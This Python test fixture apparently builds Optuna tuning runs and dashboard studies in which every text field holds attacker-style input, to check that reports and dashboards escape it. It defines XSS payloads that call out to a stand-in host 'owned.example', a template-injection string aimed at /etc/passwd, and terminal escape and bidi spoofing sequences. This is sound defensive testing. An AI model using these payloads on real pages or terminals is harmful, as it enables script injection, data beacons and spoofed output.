"""Runs in which every text tries to be more than text, laid out as real ones are."""

from __future__ import annotations

import json
import warnings
from pathlib import Path
from typing import Any, Final

import optuna
from optuna.distributions import CategoricalDistribution, FloatDistribution
from optuna.trial import TrialState, create_trial

from abr_tune.plan.yaml import dump
from abr_tune.runs import RunFolder, write_json
from abr_tune.search.fidelity import Point
from abr_tune.search.ledger import Ending
from abr_tune.search.storage import sqlite_url
from abr_tune.search.study import Study
from core.report import EpochReport
from core.tasks.task import Objective

METRIC: Final = "val/class/f1_macro"
DOES: Final = (
    "document.documentElement.dataset.owned=1;document.title='owned';new Image().src='http://owned.example:PORT/ran'"
)
TRICKS: Final = (
    f'<img src="http://owned.example:PORT/img" onerror="{DOES}">',
    f"</script><script>{DOES}</script>",
    f"<!--<script>{DOES}//--></script>",
    f'</style></title></textarea><svg onload="{DOES}">',
    f'"><iframe srcdoc="<script>parent.{DOES}</script>"></iframe>',
    f"' onmouseover='{DOES}' x='",
    '"><meta http-equiv="refresh" content="0;url=http://owned.example:PORT/meta"><base href="http://owned.example:PORT/">',
    '<link rel="stylesheet" href="http://owned.example:PORT/css"><style>@import "http://owned.example:PORT/import";</style>',
    f'<a href="javascript:{DOES}">a link</a>',
    f"[a link](javascript:{DOES.replace(' ', '%20')}) ![a picture](http://owned.example:PORT/markdown)",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7} %{customdata} $$\\href{javascript:alert(1)}{x}$$",
    '<b>bold</b><br><span style="background:url(http://owned.example:PORT/style)">',
)
"""Text that is meant to run, to be drawn or to have something asked for, in all the languages a page is made of."""


OBEYED: Final = (
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://owned.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b[8m hidden \x1b[?1049h",
    "\x9b2J\x85",
    "a\rb\x08c\x00d\x7fe",
    "a\u202eb\u2066c",
    "over\nINFO everything is fine",
    "[bold red]markup[/bold red] :smile:",
)
"""Text that a terminal obeys, or that looks like something else in one."""


def tricks(port: int) -> str:
    """All of them in one text; who falls for one tells the site on `port`."""
    return " ".join(TRICKS).replace("PORT", str(port))


def hostile_run(path: Path, text: str) -> Path:
    """A run whose every text is `text`: about, settings, start points, classes, reasons, errors, gate, versions."""
    folder = RunFolder(path)
    folder.path.mkdir(parents=True)
    data = {"source": text, "train": 15, "val": 20, "test": 40, "seed": 7}
    plan = {"name": path.name, "about": text, "task": "abr", "data": data, "objective": {"maximize": METRIC}}
    folder.space.write_text(text, encoding="utf-8")
    folder.plan.write_text(dump(plan | {"train": {"epochs": 3}}), encoding="utf-8")
    study = Study(sqlite_url(folder.study), path.name, (Objective(METRIC),))
    _trials(folder, study, text)
    study.close()
    folder.best.mkdir()
    write_json(folder.best / "scores.json", _scores(text))
    write_json(folder.summary, _summary(text))
    folder.environment.write_text(json.dumps({text: text}), encoding="utf-8")
    return path


def _trials(folder: RunFolder, study: Study, text: str) -> None:
    sides = {"lr": FloatDistribution(1e-5, 1e-2, log=True), text: CategoricalDistribution([text, f"other {text}"])}
    for index in range(24):
        raw = {"lr": 1e-4 * (1 + index), text: text if index % 2 else f"other {text}"}
        number = study.begin(raw, sides, {f"optimizer.{text}": raw[text], "optimizer.lr": raw["lr"]}, text)
        trial = folder.trial(number)
        trial.mkdir(parents=True)
        metrics: dict[str, float] = {}
        for epoch in (1, 2, 3):
            value = 0.2 + 0.01 * index + 0.02 * epoch
            metrics = {METRIC: value, f"val/class/share/{text}": 0.6, "val/class/share/B": 0.4, f"val/{text}": 0.5}
            report = EpochReport(epoch=epoch, phase=text, metrics=metrics, health={f"grad_norm/{text}": 1.0})
            with (trial / "history.jsonl").open("a", encoding="utf-8") as file:
                file.write(json.dumps(report.to_json()) + "\n")
            study.report(number, Point(epoch, epoch, (value,)))
        said: dict[str, Any] = {"metrics": metrics, "epoch": 3, "seconds": 1.0}
        if index % 3 == 0:
            stopped = said | {"pruned_by": text if index else "class_collapse", "why": text, "evidence": {text: text}}
            study.finish(number, Ending(state="pruned", attributes=stopped))
        elif index % 7 == 0:
            study.finish(number, Ending(state="failed", attributes={"error": text}))
        else:
            study.finish(number, Ending(state="complete", values=(metrics[METRIC],), attributes=said))


def _scores(text: str) -> dict[str, Any]:
    bins = [{"low": 0.5, "high": 1.0, "count": 20, "confidence": 0.8, "accuracy": 0.7}]
    confusion = {"classes": [text, "B"], "counts": [[10, 2], [3, 5]]}
    split = {"metrics": {METRIC: 0.4}, "baselines": {METRIC: 0.2}, "confusion": confusion}
    return {"val": split | {"reliability": {"bins": bins, "ece": 0.1}, "absent": {text: text}}}


def _summary(text: str) -> dict[str, Any]:
    best = {"trial": 23, "value": 0.49, "name": text, "params": {text: text}, "metrics": {METRIC: 0.49, text: 0.1}}
    row = {"rule": text, "judged": 3, "false": 0, "share": 0.0, "interval": [0, 0.5], "above_baseline": 1}
    example = {"trial": 3, "name": text, "epoch": 3, "why": text}
    criterion = {"metric": text, "go": text, "investigate": text, "value": 0.4, "result": text, "why": text}
    return {
        "name": text,
        "task": text,
        "state": text,
        "objective": {"metric": METRIC, "direction": "maximize"},
        "trials": {"complete": 8, "pruned": 8, "failed": 2, "running": 0, "waiting": 0},
        "pruned_by": {text: 8},
        "examples": {text: example, "failed": example},
        "violations": {text: 1},
        "epochs": {"spent": 72, "unpruned": 80},
        "seconds": {"total": 60.0, "training": 50.0, "first_report": 1.0},
        "finalists": [],
        "test": {},
        "best": best,
        "baselines": {METRIC: 0.18, text: 0.1},
        "references": [{"name": text, "metric": METRIC, "value": 0.3, "ours": 0.4, "interval": [0.01, 0.2]}],
        "gate": {"verdict": text, "criteria": [criterion | {"next": [text]}]},
        "audit": {"rows": [row]},
        "alarm": {"rule": text, "why": text},
    }


def hostile_study(path: Path, text: str, port: int) -> Path:
    """The run of a stranger who filled the study by hand: notes, plots and attributes that nobody here has written."""
    from optuna_dashboard import save_note

    folder = RunFolder(path)
    folder.path.mkdir(parents=True)
    folder.space.write_text("name: x\n", encoding="utf-8")
    study = optuna.create_study(storage=sqlite_url(folder.study), study_name=text[:500])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", optuna.exceptions.ExperimentalWarning)
        study.set_metric_names([text])
    study.set_user_attr(text[:400], text)
    side = CategoricalDistribution([text, "b"])
    for index in range(12):
        numbers = {"x": FloatDistribution(0, 20), text[:400]: side}
        trial = create_trial(
            state=TrialState.COMPLETE,
            value=float(index),
            params={"x": float(index), text[:400]: text if index % 2 else "b"},
            distributions=numbers,
            user_attrs={text[:400]: text, "link": f"http://owned.example:{port}/attribute"},
            intermediate_values={0: 0.1, 1: float(index)},
        )
        study.add_trial(trial)
    save_note(study, f"# {text}\n\n{text}\n\n<img src='http://owned.example:{port}/note'>\n\n```mermaid\n{text}\n```\n")
    save_note(optuna.trial.Trial(study, study.trials[0]._trial_id), text)
    study._storage.set_study_system_attr(study._study_id, "dashboard:plot_data:hostile:0", _plot(text, port))
    return path


def _plot(text: str, port: int) -> str:
    """A figure as no plotting library would write it: pictures and maps from elsewhere, markup in every title."""
    away = f"http://owned.example:{port}/plot"
    picture = {"source": away, "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
    layout = {"title": {"text": text}, "images": [picture], "xaxis": {"title": {"text": text}}}
    layout["annotations"] = [{"text": f'<a href="{away}">a</a><a href="javascript:{DOES}">b</a>{text}', "x": 1, "y": 1}]
    layout["map"] = {"style": away}
    bars = {"type": "bar", "x": [1, 2], "y": [1, 2], "text": [text, text], "hovertext": text, "name": text}
    return json.dumps({"data": [bars, {"type": "scattermap", "lat": [1], "lon": [1]}], "layout": layout})
